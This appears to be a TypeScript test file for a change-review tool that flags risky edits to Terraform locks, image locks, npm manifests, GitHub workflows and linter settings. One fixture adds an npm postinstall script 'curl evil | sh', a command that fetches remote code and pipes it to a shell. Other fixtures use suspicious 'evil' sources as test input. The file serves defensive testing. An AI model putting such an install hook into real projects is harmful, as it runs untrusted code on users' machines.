import { plain } from "../../../src/tools/review/phrase";
import { decidingLines } from "../../../src/tools/review/deciding-files/deciding-files";

/** A file before and after; undefined where a side does not have it. */
type Files = Readonly<Record<string, readonly [before: string | undefined, after: string | undefined]>>;

const linesOf = (files: Files) =>
  decidingLines(
    Object.entries(files).map(([path, [before, after]]) => ({ path, before, after })),
    "environments",
  ).map(({ level, text }) => `${level}: ${plain(text)}`);

const provider = (version: string, hashes: readonly string[], source = "hashicorp/aws"): string =>
  `provider "registry.terraform.io/${source}" {\n  version     = "${version}"\n  constraints = "~> 6.0"\n  hashes = [\n${hashes.map((hash) => `    "${hash}",\n`).join("")}  ]\n}\n`;
const LOCK = "locks/eks.lock.hcl";
const IMAGES = "locks/prod.images.lock.yaml";
const image = (values: object): string =>
  JSON.stringify({
    format: 1,
    environment: "prod",
    registry: "111122223333.dkr.ecr.eu-west-1.amazonaws.com",
    images: [
      {
        source: "quay.io/a/b",
        target: "111122223333/a/b",
        tag: "1.0",
        digest: `sha256:${"a".repeat(64)}`,
        platforms: [],
        usedBy: [],
        ...values,
      },
    ],
    charts: [],
    owned: [],
    excepted: [],
    notJudged: [],
  });
const ADDRESSES = "environments/prod.addresses.json";
const addresses = (list: readonly string[], moves: readonly object[] = []): string =>
  JSON.stringify({ moves, addresses: { "prod-cluster": list } });
const workflow = (values: string): string =>
  `name: review\non:\n  pull_request:\npermissions: {}\njobs:\n  check:\n    runs-on: ubuntu-24.04\n    steps:\n${values}`;
const STEP = "      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n";
const CHECK = "      - run: npx private-eks-inference check\n";
const WORKFLOW = ".github/workflows/review.yml";

const CASES: readonly (readonly [name: string, files: Files, lines: readonly (RegExp | string)[]])[] = [
  [
    "another release of a provider",
    { [LOCK]: [provider("6.1.0", ["h1:a"]), provider("6.2.0", ["h1:b"])] },
    [/^attention: .*hashicorp\/aws.*6\.1\.0 → 6\.2\.0/],
  ],
  [
    "the same release with other packages",
    { [LOCK]: [provider("6.1.0", ["h1:a", "zh:b"]), provider("6.1.0", ["h1:c", "zh:d"])] },
    [/^attention: .*hashicorp\/aws 6\.1\.0.*none of the packages/],
  ],
  [
    "the same release with one more package",
    { [LOCK]: [provider("6.1.0", ["h1:a"]), provider("6.1.0", ["h1:a", "h1:b"])] },
    [/^attention: .*hashicorp\/aws 6\.1\.0.*1 more package/],
  ],
  [
    "the same release with a package less",
    { [LOCK]: [provider("6.1.0", ["h1:a", "h1:b"]), provider("6.1.0", ["h1:a"])] },
    [/^info: .*hashicorp\/aws 6\.1\.0.*1 package less/],
  ],
  [
    "hashes in another order",
    { [LOCK]: [provider("6.1.0", ["h1:a", "h1:b"]), provider("6.1.0", ["h1:b", "h1:a"])] },
    [/^info: .*no release and no hash/],
  ],
  [
    "a provider that is no longer locked",
    { [LOCK]: [provider("6.1.0", ["h1:a"]), ""] },
    [/^attention: .*hashicorp\/aws.*no longer locked/],
  ],
  [
    "a provider that no lock had",
    { [LOCK]: ["", provider("1.0.0", ["h1:a"], "evil/tool")] },
    [/^attention: .*evil\/tool 1\.0\.0/],
  ],
  [
    "a lock that is removed",
    { [LOCK]: [provider("6.1.0", ["h1:a"]), undefined] },
    [/^attention: .*hashicorp\/aws.*no longer locked/],
  ],
  [
    "an image of another repository",
    { [IMAGES]: [image({}), image({ source: "docker.io/evil/b" })] },
    [/^attention: .*source.*quay\.io\/a\/b → docker\.io\/evil\/b/],
  ],
  [
    "an image with the same tag and another digest",
    { [IMAGES]: [image({}), image({ digest: `sha256:${"b".repeat(64)}` })] },
    [/^attention: .*1\.0.*other content/],
  ],
  [
    "an image without its digest",
    { [IMAGES]: [image({}), image({ digest: undefined })] },
    [/^attention: .*digest.*no longer/],
  ],
  [
    "an image that gets a digest",
    { [IMAGES]: [image({ digest: undefined }), image({})] },
    [/^info: .*digest/],
  ],
  ["another user of an image", { [IMAGES]: [image({}), image({ usedBy: ["models/a"] })] }, [/^info: /]],
  [
    "an address that is no longer locked",
    { [ADDRESSES]: [addresses(["aws_db_instance.a", "aws_eip.b"]), addresses(["aws_eip.b"])] },
    [/^attention: .*prod-cluster aws_db_instance\.a.*no longer/],
  ],
  [
    "one more address",
    { [ADDRESSES]: [addresses(["aws_eip.b"]), addresses(["aws_db_instance.a", "aws_eip.b"])] },
    [/^info: .*1 address/],
  ],
  [
    "a move",
    {
      [ADDRESSES]: [
        addresses(["aws_eip.a"]),
        addresses(["aws_eip.a"], [{ stack: "prod-cluster", from: "aws_eip.a", to: "aws_eip.b" }]),
      ],
    },
    [/^attention: .*aws_eip\.a.*aws_eip\.b/],
  ],
  [
    "another release of the program",
    {
      "package.json": [
        '{"dependencies":{"private-eks-inference":"1.0.0"}}',
        '{"dependencies":{"private-eks-inference":"1.1.0"}}',
      ],
    },
    [/^attention: .*private-eks-inference.*1\.0\.0 → 1\.1\.0.*checks/],
  ],
  [
    "a script of npm",
    { "package.json": ['{"scripts":{}}', '{"scripts":{"postinstall":"curl evil | sh"}}'] },
    [/^attention: .*scripts\.postinstall/],
  ],
  [
    "the same release of a package with other content",
    {
      "package-lock.json": [
        '{"packages":{"node_modules/a":{"version":"1.0.0","integrity":"sha512-a"}}}',
        '{"packages":{"node_modules/a":{"version":"1.0.0","integrity":"sha512-b"}}}',
      ],
    },
    [/^attention: .*node_modules\/a 1\.0\.0.*other content/],
  ],
  [
    "a package of another registry",
    {
      "package-lock.json": [
        '{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://one.example/a.tgz","integrity":"sha512-a"}}}',
        '{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://two.example/a.tgz","integrity":"sha512-a"}}}',
      ],
    },
    [/^attention: .*node_modules\/a.*one\.example → two\.example/],
  ],
  [
    "a workflow without the step that checks",
    { [WORKFLOW]: [workflow(STEP + CHECK), workflow(STEP)] },
    [/^attention: .*review\.yml.*jobs\.check\.steps/],
  ],
  [
    "a workflow with more permissions",
    {
      [WORKFLOW]: [
        workflow(STEP),
        workflow(STEP).replace("permissions: {}", "permissions:\n  contents: write"),
      ],
    },
    [/^attention: .*permissions.*write/],
  ],
  [
    "a workflow with a comment",
    { [WORKFLOW]: [workflow(STEP), `# reviewed\n${workflow(STEP)}`] },
    [/^info: .*only comments/],
  ],
  [
    "an action by a tag",
    { [WORKFLOW]: [workflow(STEP), workflow("      - uses: actions/checkout@v4\n")] },
    [/^attention: .*actions\/checkout.*not fixed/],
  ],
  [
    "a workflow that is removed",
    { [WORKFLOW]: [workflow(STEP), undefined] },
    [/^attention: .*review\.yml.*removed/],
  ],
  [
    "a rule of TFLint that is off",
    { ".tflint.hcl": ['rule "a" {\n  enabled = true\n}\n', 'rule "a" {\n  enabled = false\n}\n'] },
    [/^attention: .*tflint.*a.*off/i],
  ],
  [
    "a rule of TFLint that is on",
    { ".tflint.hcl": ['rule "a" {\n  enabled = false\n}\n', 'rule "a" {\n  enabled = true\n}\n'] },
    [/^info: .*tflint.*a.*on/i],
  ],
  [
    "a check of Checkov that is skipped",
    { ".checkov.yaml": ["skip-check:\n  - CKV_1\n", "skip-check:\n  - CKV_1\n  - CKV_2\n"] },
    [/^attention: .*CKV_2/],
  ],
  [
    "a check of Checkov that runs again",
    { ".checkov.yaml": ["skip-check:\n  - CKV_1\n", "skip-check: []\n"] },
    [/^info: .*CKV_1/],
  ],
  [
    "an own check that is removed",
    { "environments/checks/tags.ts": ["export default {};", undefined] },
    [/^attention: .*own check tags.*no longer/],
  ],
  [
    "an own check that changes",
    { "environments/checks/tags.ts": ["a", "b"] },
    [/^attention: .*own check tags.*not understood/],
  ],
  [
    "facts of the program",
    { "src/proof/facts/aws.ts": ["a", "b"], "src/proof/facts/eks.ts": ["a", "b"] },
    [/^attention: src\/proof\/facts\/aws\.ts and 1 more .*facts.*not understood/],
  ],
  [
    "checks of the program",
    { "src/proof/checks/all.ts": ["a", "b"] },
    [/^attention: src\/proof\/checks\/all\.ts .*checks/],
  ],
  ["a script of the gate", { ".ci/run": ["a", "b"] }, [/^attention: .*\.ci\/run.*not understood/]],
  ["the owners of code", { ".github/CODEOWNERS": ["a", "b"] }, [/^attention: .*CODEOWNERS.*approve/]],
  [
    "a file with invalid text",
    { [WORKFLOW]: [workflow(STEP), "jobs: ["] },
    [/^attention: .*review\.yml.*not understood/],
  ],
  [
    "a page of the documentation",
    { "docs/guide/review.md": ["a", "b"], "environments/prod.yaml": ["a: 1", "a: 2"] },
    [],
  ],
  ["the same text", { [LOCK]: [provider("6.1.0", ["h1:a"]), provider("6.1.0", ["h1:a"])] }, []],
];

test.each(CASES)("%s", (_, files, expected) => {
  const lines = linesOf(files);
  expect(lines).toEqual(
    expected.map((each) => (each instanceof RegExp ? expect.stringMatching(each) : each)),
  );
});

test("no line shows a secret", () => {
  const key = `AKIA${"ABCDEFGHJKMN2345"}`;
  const [before, after] = [
    workflow(STEP),
    workflow(STEP).replace("permissions: {}", `permissions:\n  ${key}: write`),
  ];
  const text = linesOf({ [WORKFLOW]: [before, after], [`.ci/${key}`]: ["a", "b"] }).join("\n");
  expect(text).not.toContain(key);
});
